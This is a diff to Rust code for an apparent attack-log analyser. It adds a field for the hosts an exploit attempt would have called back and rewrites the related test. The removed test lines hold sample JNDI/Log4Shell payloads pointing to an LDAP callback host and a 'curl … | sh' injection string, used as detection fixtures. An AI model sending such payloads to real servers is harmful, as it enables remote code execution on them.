@@ -4,7 +4,6 @@ use std::net::IpAddr;
 
 use serde::{Deserialize, Serialize};
 
-use crate::mention::mentions;
 use crate::time::Timestamp;
 
 /// An attempt that a log shows: a line, or a series of them.
@@ -34,6 +33,9 @@ pub struct Attempt {
     pub attack: Vec<String>,
     /// Vulnerabilities that it exploits.
     pub cves: Vec<String>,
+    /// Whom the server would have called, had it done what was sent: addresses, and names in lower case.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub aims: Vec<String>,
     /// What it came to.
     pub verdict: Verdict,
     /// The rule, or the kind of series.
@@ -53,10 +55,8 @@ impl Attempt {
 
     /// Whether what was sent names this address, or one of these names: whom it would have called back.
     pub fn names<'n>(&self, address: IpAddr, names: impl IntoIterator<Item = &'n str>) -> bool {
-        let is_of_client = self.remote == Some(address) || self.claimed_remote == Some(address);
-        // Its own address stands in each of a client's lines.
-        let is_named = mentions(&self.raw, &address.to_string()) > usize::from(is_of_client);
-        is_named || names.into_iter().any(|name| name.contains('.') && mentions(&self.raw, name) > 0)
+        let is_aim = |text: &str| self.aims.iter().any(|aim| aim.eq_ignore_ascii_case(text));
+        is_aim(&address.to_string()) || names.into_iter().any(is_aim)
     }
 }
 
@@ -96,7 +96,7 @@ pub const RAW_BYTES_MAX: usize = 4096;
 mod tests {
     use super::*;
 
-    fn attempt(raw: &str) -> Attempt {
+    fn attempt() -> Attempt {
         Attempt {
             kind: ShownBy::Line,
             file: "a.log".into(),
@@ -109,32 +109,25 @@ mod tests {
             family: "jndi".into(),
             attack: vec!["T1190".into()],
             cves: vec![],
+            aims: vec!["203.0.113.66".into(), "c2.example".into()],
             verdict: Verdict::Attempted,
             rule: "jndi-lookup".into(),
             reasons: vec![],
-            raw: raw.into(),
+            raw: "203.0.113.9 x".into(),
         }
     }
 
     #[test]
-    fn whom_a_request_would_call_back_is_found_and_its_sender_is_not() {
-        let (peer, sender) = ("203.0.113.66".parse().unwrap(), "203.0.113.9".parse().unwrap());
-        let plain = attempt("203.0.113.9 - - [x] \"GET /?x=${jndi:ldap://203.0.113.66:1389/a} HTTP/1.1\" 200 5");
-        assert!(plain.names(peer, []) && !plain.names(sender, []));
-        assert!(
-            attempt("203.0.113.9 \"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D\"").names(peer, [])
-        );
-        assert!(attempt("203.0.113.9 \"GET /?x=;curl 203.0.113.9/x|sh\"").names(sender, []));
-        let named = attempt("203.0.113.9 \"GET /?x=${jndi:ldap://C2.example/a}\"");
-        assert!(named.names(peer, ["c2.example"]) && !named.names(peer, ["2.example"]) && !named.names(peer, ["com"]));
-        for other in ["203.0.113.166", "1203.0.113.66", "203.0.113.66.5", "3.203.0.113.66"] {
-            assert!(!attempt(&format!("203.0.113.9 \"GET /?x=http://{other}/\"")).names(peer, []), "{other}");
-        }
+    fn whom_a_request_would_call_back_is_named_and_its_sender_is_not() {
+        let one = attempt();
+        assert!(one.names("203.0.113.66".parse().unwrap(), []) && !one.names("203.0.113.9".parse().unwrap(), []));
+        let other = "192.0.2.1".parse().unwrap();
+        assert!(one.names(other, ["x.example", "C2.example"]) && !one.names(other, ["2.example"]));
     }
 
     #[test]
     fn guessing_and_looking_are_no_exploits() {
-        let mut one = attempt("");
+        let mut one = attempt();
         assert!(one.is_exploit());
         one.verdict = Verdict::Probed;
         assert!(!one.is_exploit());
